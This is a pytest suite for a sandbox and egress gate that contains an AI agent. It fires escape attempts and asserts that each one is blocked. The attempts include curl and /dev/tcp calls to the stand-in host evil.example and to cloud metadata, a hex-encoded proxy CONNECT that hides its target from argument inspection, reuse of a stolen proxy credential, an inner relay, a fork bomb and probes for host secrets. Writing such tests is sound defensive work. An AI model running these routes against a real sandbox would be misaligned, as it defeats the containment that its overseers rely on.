"""Routes no reading of one call's arguments can see, fired at the real sandbox.

Every command here passes the call's inspection (a script is written, then run by an allowed
program): the wall under test is the sandbox and the egress gate. After each route the fake
outside host ``evil.example`` must have seen no connection at all.
"""

from __future__ import annotations

import asyncio
import base64
import json
import os
import secrets
from pathlib import Path

import aiohttp

from gatekeeper.app import Gatekeeper

from ..helpers import poll_until
from .conftest import Agent, Outside

# Its target comes hex-encoded (``connect_args``): these tests try the egress gate, so the call
# that runs the script must not show argument inspection where it connects.
PROXY_CONNECT = """
import base64, os, socket, sys, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
auth = base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
s = socket.create_connection((proxy.hostname, proxy.port), 5)
target = bytes.fromhex(sys.argv[1]).decode()
s.sendall(f"CONNECT {target} HTTP/1.1\\r\\nProxy-Authorization: Basic {auth}\\r\\n\\r\\n".encode())
print(s.recv(4096).decode(errors="replace").splitlines()[0])
"""


def connect_args(target: str) -> str:
    """The argument PROXY_CONNECT takes for ``target`` (``host:port``)."""
    return target.encode().hex()


# A relay inside the sandbox: listens on its own loopback and re-CONNECTs through the gate.
INNER_RELAY = """
import os, socket, threading, subprocess, sys, time
srv = socket.socket(); srv.bind(("127.0.0.1", 4444)); srv.listen(4)
def serve():
    c, _ = srv.accept()
    up = socket.create_connection(("127.0.0.1", 3128), 5)
    up.sendall(c.recv(65536))
    c.sendall(up.recv(65536))
threading.Thread(target=serve, daemon=True).start()
out = subprocess.run(["curl", "-sS", "-m", "5", "-x", "http://127.0.0.1:4444",
                      "--proxy-user", "gatekeeper:" + os.environ["HTTPS_PROXY"].split(":")[2].split("@")[0],
                      "https://evil.example/"], capture_output=True, text=True)
print("relayed:", out.returncode, out.stdout, out.stderr)
"""


async def test_an_allowed_host_works_through_the_gate(agent: Agent, outside: Outside) -> None:
    result = await agent.sh("curl -sS --cacert pypi-ca.txt https://pypi.org/")
    assert result["exit_code"] == 0, result
    assert result["stdout"] == "fake outside host\n"
    assert result["simulated"] is False
    assert outside.pypi_hits == ["/"]


async def test_pip_download_from_an_allowed_index_runs_no_way_out(agent: Agent, outside: Outside) -> None:
    """pip fetches the package from the allowed index; its setup.py then tries a raw socket and
    the proxy to an unlisted host, from inside the sandbox. Neither reaches anything."""
    await agent.plant(
        "Makefile",
        "deps:\n\tpip download --no-deps --no-build-isolation --cert pypi-ca.txt -d dl "
        "--index-url https://pypi.org/simple evilpkg 2>&1 || true\n",
    )
    result = await agent.sh("make deps")
    assert "/files/evilpkg-1.0.tar.gz" in outside.pypi_hits, result
    assert "ESCAPED" not in result["stdout"], result["stdout"]
    assert outside.evil.connections == 0


async def test_scripts_written_then_run_find_no_way_out(agent: Agent, outside: Outside) -> None:
    port = outside.evil.port
    await agent.plant(
        "escape.py",
        f"""
import socket, subprocess, urllib.request
def attempt(what, fn):
    try:
        fn(); print("ESCAPED", what)
    except Exception as exc:
        print("blocked", what, type(exc).__name__)
attempt("raw loopback", lambda: socket.create_connection(("127.0.0.1", {port}), 2))
attempt("raw public", lambda: socket.create_connection(("203.0.113.7", 443), 2))
attempt("raw ipv6", lambda: socket.create_connection(("::1", {port}), 2))
attempt("own resolver", lambda: socket.getaddrinfo("evil.example", 443))
attempt("proxy to unlisted", lambda: urllib.request.urlopen("http://evil.example/", timeout=5).read())
attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("203.0.113.7", 53)))
for cmd in (
    "exec 3<>/dev/tcp/127.0.0.1/{port}",
    "curl -fsS -m 3 --noproxy '*' https://evil.example/",
    "curl -fsS -m 3 --noproxy '*' http://127.0.0.1:{port}/",
    "curl -fsS -m 3 https://evil.example/",
    "curl -fsS -m 3 https://github.com:22/",
    "curl -fsS -m 3 http://127.0.0.1:{port}/",
    "curl -fsS -m 3 http://169.254.169.254/latest/meta-data/",
    "curl -fsS -m 3 http://0x7f000001:{port}/",
    "curl -fsS -m 3 -x http://127.0.0.1:3128 https://evil.example/",
):
    proc = subprocess.run(["bash", "-c", cmd], capture_output=True, text=True)
    print("ESCAPED" if proc.returncode == 0 else "blocked", cmd, proc.returncode)
""",
    )
    result = await agent.sh("python3 escape.py")
    assert result["exit_code"] == 0, result
    lines = result["stdout"].splitlines()
    assert len(lines) == 15, lines
    assert [line for line in lines if not line.startswith("blocked")] == []
    assert outside.evil.connections == 0


async def test_makefile_and_package_scripts_find_no_way_out(agent: Agent, outside: Outside) -> None:
    port = outside.evil.port
    await agent.plant(
        "Makefile",
        f"all:\n\tcurl -sS -m 3 https://evil.example/ || true\n"
        f"\tpython3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 2)' || true\n",
    )
    await agent.plant("package.json", json.dumps({"name": "x", "scripts": {"test": "node t.js"}}))
    await agent.plant(
        "t.js",
        f"const net = require('net'); const s = net.connect({port}, '127.0.0.1');"
        "s.on('error', e => console.log('blocked', e.code)); s.on('connect', () => console.log('ESCAPED'));",
    )
    make = await agent.sh("make")
    assert "ESCAPED" not in make["stdout"], make
    npm = await agent.sh("npm test 2>&1")
    assert "blocked" in npm["stdout"] and "ESCAPED" not in npm["stdout"], npm
    assert outside.evil.connections == 0


async def test_reused_credentials_and_inner_relays_are_still_decided(
    agent: Agent, outside: Outside, contained: Gatekeeper
) -> None:
    await agent.plant("connect.py", PROXY_CONNECT)
    for target in (
        "evil.example:443",
        "github.com:22",
        f"127.0.0.1:{outside.evil.port}",
        "169.254.169.254:80",
    ):
        result = await agent.sh(f"python3 connect.py {connect_args(target)}")
        assert result["stdout"].startswith("HTTP/1.1 403"), (target, result)
    await agent.plant("inner.py", INNER_RELAY)
    relayed = await agent.sh("python3 inner.py")
    assert "relayed: 0" not in relayed["stdout"], relayed
    assert outside.evil.connections == 0


async def test_a_credential_dies_with_its_call(agent: Agent, outside: Outside, contained: Gatekeeper) -> None:
    await agent.plant("keep.py", "import os; open('cred.txt', 'w').write(os.environ['HTTPS_PROXY'])")
    await agent.sh("python3 keep.py")
    proxy = (Path(str(contained.config.runner.workspace)) / "cred.txt").read_text()
    token = proxy.split("@")[0].rsplit(":", 1)[1]
    host, port = contained.egress_url.removeprefix("http://").rsplit(":", 1)
    for auth in (token, None):
        reader, writer = await asyncio.open_connection(host, int(port))
        head = "CONNECT pypi.org:443 HTTP/1.1\r\nHost: pypi.org:443\r\n"
        if auth is not None:
            head += f"Proxy-Authorization: Basic {base64.b64encode(f'x:{auth}'.encode()).decode()}\r\n"
        writer.write((head + "\r\n").encode())
        status = (await reader.readline()).decode()
        writer.close()
        assert status.startswith("HTTP/1.1 407"), status
    assert outside.pypi_hits == []


async def test_http_fetch_goes_through_the_same_gate(agent: Agent, outside: Outside) -> None:
    status, body = await agent.call("http.fetch", url="http://mirror.test/")
    assert status == 200 and body["result"]["status"] == 200, body
    assert body["result"]["body"] == "fake outside host\n"
    assert outside.mirror_hits == ["/"]


async def test_the_host_stays_invisible(agent: Agent, contained: Gatekeeper, tmp_path: Path) -> None:
    os.environ["GK_LIVE_FIRE_SECRET"] = "s3cret-from-the-host"
    try:
        await agent.plant(
            "look.py",
            f"""
import os
print("env", sorted(os.environ))
for path in ("/root", {str(contained.config.data_dir)!r}, {str(tmp_path)!r}, "/work", "/var/lib/postgresql"):
    print("seen" if os.path.exists(path) else "hidden", path)
for path in ("/tmp/gk-live-fire", "/etc/gk-live-fire", "/usr/gk-live-fire"):
    try:
        open(path, "w").write("x"); print("wrote", path)
    except OSError as exc:
        print("refused", path, exc.errno)
print("gpus", [n for n in os.listdir("/dev") if n.startswith(("nvidia", "dri", "kfd"))])
""",
        )
        result = await agent.sh("python3 look.py")
    finally:
        del os.environ["GK_LIVE_FIRE_SECRET"]
    out = result["stdout"]
    assert "GK_LIVE_FIRE_SECRET" not in out and "s3cret" not in out
    assert "seen" not in out, out
    assert "gpus []" in out
    # The sandbox's /tmp is its own; /etc and /usr are read-only.
    assert _existing("/tmp/gk-live-fire", "/etc/gk-live-fire", "/usr/gk-live-fire") == []


async def test_runaway_commands_are_killed_at_their_limits(tmp_path: Path, outside: Outside) -> None:
    from ..helpers import running
    from .conftest import runner_config

    config = runner_config(
        tmp_path, outside, wall_seconds=2.0, processes=64, memory_mb=256, output_bytes=4096
    )
    async with running(config) as gk, aiohttp.ClientSession() as http:
        agent = Agent(gk, http)
        slow = await agent.sh("sleep 60")
        assert slow["timed_out"] is True and slow["exit_code"] == 124
        bomb = f"fork-{secrets.token_hex(4)}.py"  # its name finds its processes, whatever else runs
        await agent.plant(
            bomb, "import os\nfor _ in range(500):\n    os.fork() == 0 and __import__('time').sleep(30)\n"
        )
        fork = await agent.sh(f"python3 {bomb}")
        assert "BlockingIOError" in fork["stderr"] or fork["timed_out"], fork
        await agent.plant("hog.py", "x = bytearray(1024 * 1024 * 1024)\nprint('ESCAPED')\n")
        hog = await agent.sh("python3 hog.py")
        assert "MemoryError" in hog["stderr"] and "ESCAPED" not in hog["stdout"], hog
        await agent.plant("loud.py", "while True:\n    print('y' * 1000)\n")
        loud = await agent.sh("python3 loud.py")
        assert loud["truncated"] is True and len(loud["stdout"]) == 4096
        # The wall limit ended the whole tree: nothing of the fork bomb is left on the host.
        # (The kernel reaps a killed namespace in the background: allow it a moment.)
        await poll_until(lambda: not _running_with(bomb), every=0.1, what="the fork bomb's processes to go")
        assert _running_with(bomb) == []


def _running_with(marker: str) -> list[str]:
    """Live (not zombie) processes whose command line holds ``marker``."""
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
            state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
        except (OSError, IndexError):
            continue
        if marker.encode() in cmdline and state != "Z":
            found.append(pid)
    return found


def _existing(*paths: str) -> list[str]:
    return [path for path in paths if Path(path).exists()]
